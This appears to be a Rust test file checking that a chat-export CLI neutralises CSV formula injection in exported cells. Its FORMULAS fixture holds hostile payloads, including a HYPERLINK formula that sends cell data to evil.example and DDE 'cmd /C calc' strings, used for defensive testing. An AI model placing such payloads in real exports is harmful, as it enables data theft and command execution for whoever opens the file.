//! Text from the API is data, never a command: CSV cells a spreadsheet would evaluate are
//! neutralised (`--csv-raw` keeps them), and control characters never reach a terminal raw.

use crate::common::{chats, run, temp_dir};
use giosg_async::{Chat, ChatLog, Tag};
use giosg_mock::MockServer;

/// What visitors and operators can type, each a formula to a spreadsheet.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
];

/// Generated chats whose every text field from the API holds a formula.
fn hostile_chats() -> Vec<Chat> {
    let mut chats = giosg_mock::generate(24, 6);
    for (i, chat) in chats.iter_mut().enumerate() {
        let formula = FORMULAS[i % FORMULAS.len()].to_owned();
        chat.start_url = Some(formula.clone());
        chat.start_url_title = Some(formula.clone());
        chat.token = Some(formula.clone());
        chat.tags = vec![Tag::new(formula.clone())];
        let mut log = ChatLog::new();
        log.message = Some(formula.clone());
        log.display_name = Some(formula.clone());
        log.sender_id = Some(formula);
        chat.logs.insert(0, log);
    }
    chats
}

/// The records of a CSV text, header first, as the `csv` crate reads them.
fn cells(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// Whether a spreadsheet would evaluate this cell: it begins with one of OWASP's characters.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// The value of `column` in each row of a CSV with a header.
fn column<'a>(rows: &'a [Vec<String>], column: &str) -> Vec<&'a str> {
    let at = rows[0].iter().position(|c| c == column).unwrap();
    rows[1..].iter().map(|r| r[at].as_str()).collect()
}

#[test]
fn exported_csv_cells_are_never_formulas_to_a_spreadsheet() {
    let served = hostile_chats();
    let mock = MockServer::builder().chats(served.clone()).start().unwrap();
    let dir = temp_dir("csv-injection");
    for (name, extra) in [("chats", &[][..]), ("messages", &["--csv-logs"][..])] {
        let file = dir.join(format!("{name}.csv"));
        let mut args = vec!["--out", file.to_str().unwrap(), "--format", "csv"];
        args.extend_from_slice(extra);
        run(&mut chats(&mock, "export", &args)).ok();
        let rows = cells(&std::fs::read_to_string(&file).unwrap());
        assert!(rows.len() > 1, "{name}");
        for row in &rows {
            for cell in row {
                assert!(!is_formula(cell), "{name}: a formula cell {cell:?}");
            }
        }
        // What a spreadsheet shows: the text as sent, after a ' that marks it as text.
        let (id_column, text_columns): (&str, &[&str]) = if extra.is_empty() {
            ("id", &["start_url", "start_url_title", "token", "tags"])
        } else {
            ("chat_id", &["sender_id", "display_name", "message"])
        };
        let ids = column(&rows, id_column);
        let first = if extra.is_empty() {
            vec!["0"; ids.len()]
        } else {
            column(&rows, "log_index")
        };
        let mut seen = 0;
        for text_column in text_columns {
            for ((id, index), cell) in ids.iter().zip(&first).zip(column(&rows, text_column)) {
                if *index != "0" {
                    continue; // a generated message, not a hostile one
                }
                let chat = served.iter().find(|c| c.id.to_string() == *id).unwrap();
                let sent = chat.start_url.as_deref().unwrap();
                assert_eq!(cell, format!("'{sent}"), "{name} {text_column}");
                seen += 1;
            }
        }
        assert_eq!(seen, served.len() * text_columns.len(), "{name}");
    }
}

#[test]
fn csv_raw_writes_text_cells_as_the_api_sent_them() {
    let served = hostile_chats();
    let mock = MockServer::builder().chats(served.clone()).start().unwrap();
    let neutral = run(&mut chats(&mock, "list", &["--format", "csv"]))
        .ok()
        .to_owned();
    let raw = run(&mut chats(&mock, "list", &["--format", "csv", "--csv-raw"]))
        .ok()
        .to_owned();
    let (neutral, raw) = (cells(&neutral), cells(&raw));
    assert_eq!(column(&neutral, "id"), column(&raw, "id"));
    let served_urls: Vec<&str> = served
        .iter()
        .map(|c| c.start_url.as_deref().unwrap())
        .collect();
    let mut raw_urls = column(&raw, "start_url");
    let mut neutral_urls = column(&neutral, "start_url");
    raw_urls.sort_unstable();
    neutral_urls.sort_unstable();
    let mut expected = served_urls.clone();
    expected.sort_unstable();
    assert_eq!(raw_urls, expected);
    let quoted: Vec<String> = expected.iter().map(|u| format!("'{u}")).collect();
    assert_eq!(neutral_urls, quoted);
    // `--csv-raw` alone means csv; with another --format it is refused.
    let logs = run(&mut chats(&mock, "list", &["--csv-logs", "--csv-raw"]))
        .ok()
        .to_owned();
    let messages = cells(&logs);
    assert!(column(&messages, "message").contains(&FORMULAS[0]));
    let refused = run(&mut chats(
        &mock,
        "list",
        &["--format", "jsonl", "--csv-raw"],
    ));
    assert!(
        refused.fails(2).contains("--csv-raw needs --format csv"),
        "{}",
        refused.stderr
    );
}
